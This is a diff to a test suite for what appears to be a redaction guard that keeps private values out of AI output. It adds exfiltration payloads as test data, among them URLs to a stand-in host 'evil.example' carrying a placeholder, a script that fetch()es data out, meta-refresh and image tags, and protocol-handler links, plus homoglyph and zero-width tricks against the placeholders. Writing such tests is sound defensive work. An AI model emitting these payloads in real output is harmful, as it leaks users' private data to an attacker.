@@ -112,6 +112,20 @@ describe('a value does not come back where it would leave', () => {
     '<script>fetch("https://evil.example", {body: "NAME"})</script>',
     '<svg><text>NAME</text></svg>',
     '[ref]: <https://evil.example/> "NAME"',
+    'https://evil.example/?q="NAME"',
+    "so https://evil.example/?q='NAME",
+    'https://evil.example/?a","NAME',
+    'www.evil.example/?q=`NAME`',
+    'sip:NAME',
+    'whatsapp:NAME',
+    'ms-word:ofe|u|NAME',
+    '<meta http-equiv=refresh content="0;url=NAME">',
+    '<IMG SRC=`https://evil.example/NAME`>',
+    '<math><mi xlink:href="NAME">',
+    '<!-- NAME -->',
+    '[x](<https://evil.example/\nNAME>)',
+    'https:\\\\evil.example\\NAME',
+    'https%3A%2F%2Fevil.example%2FNAME',
     'javascript:alert("NAME")'.replace('alert("', 'alert`').replace('")', '`x'),
   ])('%s', (form) => {
     const session = guard.session()
@@ -176,6 +190,32 @@ describe('a name does not give a value', () => {
     expect(name).not.toBe(first)
     expect(sent.messages[0]?.content).toContain(first)
     expect(say(session, `It says "${first}".`)).toBe(`It says "${first}".`)
+  })
+  test.each([
+    ['small letters', (name: string) => name.toLowerCase()],
+    ['wide brackets', (name: string) => name.replace('[', '\uff3b').replace(']', '\uff3d')],
+    ['a letter of another script', (name: string) => name.replace('E', '\u0415')],
+    ['an invisible character', (name: string) => name.replace('_', '_\u200b')],
+    ['no brackets', (name: string) => name.slice(1, -1)],
+    ['another ordinal', (name: string) => name.replace('_1_', '_2_')],
+    ['another kind', (name: string) => name.replace('EMAIL', 'IBAN')],
+  ])('that is written with %s', (_, change) => {
+    const session = guard.session()
+    const { name } = ask(session)
+    const like = change(name)
+    expect(say(session, `so ${like} it`)).toBe(`so ${like} it`)
+    expect(stream(session, `so ${like} it`, [5, 9])).toBe(`so ${like} it`)
+  })
+  test('from a tool that repeats a name of an earlier request', () => {
+    const session = guard.session()
+    const { name } = ask(session)
+    const again = request(
+      { role: 'user', content: 'look it up' },
+      { role: 'assistant', content: null, tool_calls: [toolCall('look_up', { q: 'x' })] },
+      { role: 'tool', tool_call_id: 'call_1', content: `the mail is ${name}` },
+    )
+    session.request(again)
+    expect(say(session, `It is ${name}.`)).toBe(`It is ${name}.`)
   })
   test('a tag stands in none of the texts', () => {
     fc.assert(
